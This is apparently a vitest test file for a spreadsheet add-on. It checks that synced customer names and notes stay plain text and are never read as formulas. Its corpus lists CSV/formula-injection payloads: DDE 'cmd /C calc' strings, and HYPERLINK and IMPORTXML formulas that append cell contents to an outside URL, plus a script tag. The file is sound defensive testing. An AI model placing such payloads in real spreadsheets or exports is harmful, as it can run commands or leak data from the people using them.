import { fileURLToPath } from 'node:url';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { bundleCode } from '../../addon/build.js';
import { writeConnectionCode } from '../../addon/connection.js';
import type { Answer, SyncState } from '../../addon/rpc.js';
import { createSimulatorInProcess, type InProcessSimulator } from '../../addon/simulator/in-process.js';
import type { CellSnapshot } from '../../addon/simulator/types.js';
import { inTenant } from '../../server/app/context.js';
import { createCustomer } from '../../server/app/customer.js';
import { recordDebt } from '../../server/app/debt.js';
import { bindSheet } from '../../server/app/sheet/bind.js';
import { sheetPatches } from '../../server/app/sheet/read.js';
import { syncSheet } from '../../server/app/sheet/sync.js';
import type { WireValue } from '../../server/domain/sheet/wire.js';
import { createShop, createTestApp, nextKey, type TestApp } from '../support/app.js';
import { runs } from '../support/runs.js';
import { fakeServer } from './fake-server.js';

/** Texts with a name of their own: what spreadsheets are attacked with, and what they make something else of. */
const NAMED = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '=HYPERLINK("http://a.b/?"&A1;"clique")',
  '=IMPORTXML("http://a.b/"&A1,"//a")',
  '=IMAGE("http://a.b")',
  "=cmd|'/C calc'!A0",
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"a")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  "'=1+1",
  "''=1+1",
  "'",
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
  '\u0000=1+1',
  '\ufeff=1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\u202e=1+1',
  '007',
  '+55 27 91417-7700',
  '1e5',
  '1.234,56',
  '1,234.56',
  '10%',
  'R$ 10,00',
  '$5',
  '(5)',
  '10/03/2026',
  '3/10',
  '2026-03-10',
  '10 mar',
  '12:30',
  'VERDADEIRO',
  'FALSE',
  'true',
  'hoje',
  'infinity',
  'NaN',
  ' =1+1',
  '{=1+1}',
  '"=1+1"',
  ';=1+1',
  ',=1+1',
  '|=1+1',
  'a\n=1+1',
  '😀=1+1',
  'João d’Ávila',
  '<script>alert(1)</script>',
  '__proto__',
];

const STARTS = [
  '',
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  "'",
  '＝',
  '＋',
  '－',
  '＠',
  '\u0000',
  '\ufeff',
  '\u00a0',
  '\u200b',
  ' ',
];
const PAYLOADS = [
  '1+1',
  'A1',
  'SUM(A1)',
  'HYPERLINK("http://a.b")',
  "cmd|'/C calc'!A0",
  '',
  'Ana',
  '10/03',
  '1,5',
  '12:30',
];

const generated = fc.oneof(
  fc
    .tuple(
      fc.array(fc.constantFrom(...STARTS), { minLength: 1, maxLength: 3 }),
      fc.constantFrom(...PAYLOADS),
      fc.string({ maxLength: 6 }),
    )
    .map(([starts, payload, end]) => `${starts.join('')}${payload}${end}`),
  fc.string({ unit: 'grapheme', minLength: 1, maxLength: 12 }),
  fc.string({ unit: 'binary', minLength: 1, maxLength: 8 }),
  fc
    .tuple(
      fc.constantFrom('', '+', '-', '(', 'R$ '),
      fc.nat(),
      fc.constantFrom('', '%', ',5', '.000', '/10', ':30', ')'),
    )
    .map((parts) => parts.join('')),
);

/** Nothing but white space is no text to a sheet, and half an emoji none to a server. */
const isText = (text: string): boolean => text.trim() !== '' && !/\p{Cs}/u.test(text);
const CORPUS = [...NAMED, ...fc.sample(generated, { seed: 63, numRuns: 12_000 })]
  .filter(isText)
  .slice(0, runs(4_000, 10_000));

const HEADINGS = ['Cliente', 'Telefone', 'Valor', 'Vencimento', 'Pago', 'Observação'];
/** Of a row: three of the merchant's cells (one plain text), and three of Caderneta's own. */
const TEXTS_A_ROW = 6;

let code = '';
let app: TestApp;
beforeAll(async () => {
  [code, app] = await Promise.all([
    bundleCode(fileURLToPath(new URL('../../addon/main.ts', import.meta.url))),
    createTestApp(),
  ]);
});
afterAll(() => app?.close());

interface Shop {
  sim: InProcessSimulator;
  server: ReturnType<typeof fakeServer>;
}

function open(rows: { text: string }[][] = []): Shop {
  const server = fakeServer();
  const sim = createSimulatorInProcess({
    code,
    spreadsheet: {
      sheets: [
        {
          name: 'Fiado',
          columnFormats: { 2: '@' },
          rows: [HEADINGS, ['Ana', null, 10, { date: '2026-08-01' }], ...rows],
        },
      ],
    },
    fetch: (_, request) => server.answer(request),
  });
  const connection = { address: 'https://loja.example.com', key: 'cdn_mer1_segredosegredo' };
  expect(sim.run('connect', writeConnectionCode(connection))).toMatchObject({ ok: true });
  return { sim, server };
}

/** The whole sync, confirming the columns as they were understood. */
function sync({ sim }: Shop): SyncState {
  let state: SyncState | null = null;
  for (let step = 0; step < 60; step++) {
    const answer = sim.run('syncStep', state) as Answer<{ state: SyncState }>;
    if (!answer.ok) throw new Error(JSON.stringify(answer.failure));
    state = answer.state;
    if (state.phase === 'DONE') return state;
    if (state.phase !== 'ASK_MAPPING') continue;
    const columns = HEADINGS.map((heading, index) => ({ index, heading, field: FIELDS[index] as string }));
    state = {
      ...state,
      phase: 'BIND',
      mapping: { sheetId: state.sheetId ?? 0, bindingId: null, headerRows: 1, columns, dateCells: null, dueRule: null },
    };
  }
  throw new Error('the sync does not end');
}

const FIELDS = ['name', 'phone', 'principalCents', 'dueOn', 'paid', 'note'];

function cellsOf({ sim }: Shop): { rows: CellSnapshot[][]; at: (heading: string) => number } {
  const { rows } = sim.snapshot('Fiado').sheets[0]!;
  return { rows, at: (heading) => rows[0]!.findIndex((cell) => cell.value === heading) };
}

/** What is alive, or reads otherwise than it was written. */
function wrong(cell: CellSnapshot | undefined, text: string): object | null {
  const isSame = cell?.kind === 'text' && cell.value === text && cell.formula === undefined;
  return isSame ? null : { text, cell };
}

describe('texts that a spreadsheet would take for something else', () => {
  it(`${CORPUS.length} of them, written to the sheet in every kind of cell, are dead and read back as they are`, () => {
    const shop = open();
    sync(shop);
    const { server } = shop;
    const lines = Array.from({ length: Math.ceil(CORPUS.length / TEXTS_A_ROW) }, (_, i) =>
      CORPUS.slice(i * TEXTS_A_ROW, (i + 1) * TEXTS_A_ROW),
    );
    const idOf = (i: number): string => `row_injetada${String(i).padStart(8, '0')}`;
    lines.forEach(([name, phone, note], i) => {
      const cells: Record<string, WireValue> = { name: name ?? 'x', phone: phone ?? 'x', note: note ?? 'x' };
      server.addNewRow({ id: idOf(i), version: 'v1', cells: { ...cells, principalCents: { n: '10' } } });
    });
    // By their number in the id, for rows are asked about one at a time.
    server.settings.wanted = ({ id }): Record<string, WireValue> => {
      const line = lines[Number(/(\d{8})$/.exec(id)?.[1] ?? -1)];
      if (!line || !id.startsWith('row_injetada')) return {};
      const [, , , status, step, link] = line;
      return {
        situacao: status ?? null,
        degrau: step ?? null,
        cobrar: link === undefined ? null : { text: link, url: 'https://loja.example.com/w/1' },
      };
    };
    sync(shop);
    sync(shop);
    const { rows, at } = cellsOf(shop);
    const idColumn = at('ID Caderneta');
    const rowOf = new Map(rows.map((cells) => [String(cells[idColumn]?.value), cells]));
    const columns = ['Cliente', 'Telefone', 'Observação', 'Situação', 'Degrau', 'Cobrar'].map(at);
    const found = lines.flatMap((line, i) =>
      line.flatMap((text, k) => wrong(rowOf.get(idOf(i))?.[columns[k] as number], text) ?? []),
    );
    expect(found.slice(0, 5)).toEqual([]);
    expect(rows.flat().every((cell) => cell.formula === undefined)).toBe(true);

    const before = server.uploads.flat().length;
    expect(sync(shop).summary).toMatchObject({ created: 0, changed: 0, written: 0 });
    expect(server.uploads.flat().length).toBe(before);
  }, 60_000);

  it('typed by a person, they reach the server as they are', () => {
    const typed = CORPUS.slice(0, 600);
    const shop = open(typed.map((text) => [{ text }, { text }]));
    sync(shop);
    const names = new Set([...shop.server.rows.values()].map(({ cells }) => cells.name));
    expect(typed.filter((text) => !names.has(text))).toEqual([]);
  }, 60_000);

  it('names and descriptions of the shop’s own records arrive in the sheet as the server holds them', async () => {
    const actor = await createShop(app);
    const spreadsheet = { spreadsheetId: 'p1', sheetId: 0, sheetName: 'Fiado' };
    const headings = ['Cliente', 'Valor', 'Vencimento', 'Descrição'];
    const bound = await bindSheet(app, actor, { idempotencyKey: nextKey(), ...spreadsheet, headings });
    const bindingId = bound.refs!.binding;
    for (const text of NAMED.slice(0, 24)) {
      const { refs } = await createCustomer(app, actor, { idempotencyKey: nextKey(), name: text });
      if (!refs) continue;
      const debt = { customerId: refs.customer, principalCents: 1_000, dueOn: '2026-08-01', description: text };
      await recordDebt(app, actor, { idempotencyKey: nextKey(), ...debt });
    }
    const step = { bindingId, syncId: 's1', chunk: 0, isLast: true, rows: [] };
    expect((await syncSheet(app, actor, { idempotencyKey: nextKey(), ...step })).errors).toEqual([]);
    const { newRows } = await inTenant(app, actor, (tenant) => sheetPatches(tenant, { bindingId, first: 200 }));
    expect(newRows.length).toBeGreaterThan(15);

    const shop = open();
    sync(shop);
    for (const { id, version, cells } of newRows)
      shop.server.addNewRow({ id, version, cells: { name: cells.name ?? null, note: cells.description ?? null } });
    sync(shop);
    const { rows, at } = cellsOf(shop);
    const found = newRows.flatMap(({ id, cells }) => {
      const line = rows.find((one) => one[at('ID Caderneta')]?.value === id);
      return [
        wrong(line?.[at('Cliente')], cells.name as string),
        cells.description ? wrong(line?.[at('Observação')], cells.description as string) : null,
      ].flatMap((one) => one ?? []);
    });
    expect(found).toEqual([]);
  }, 60_000);
});
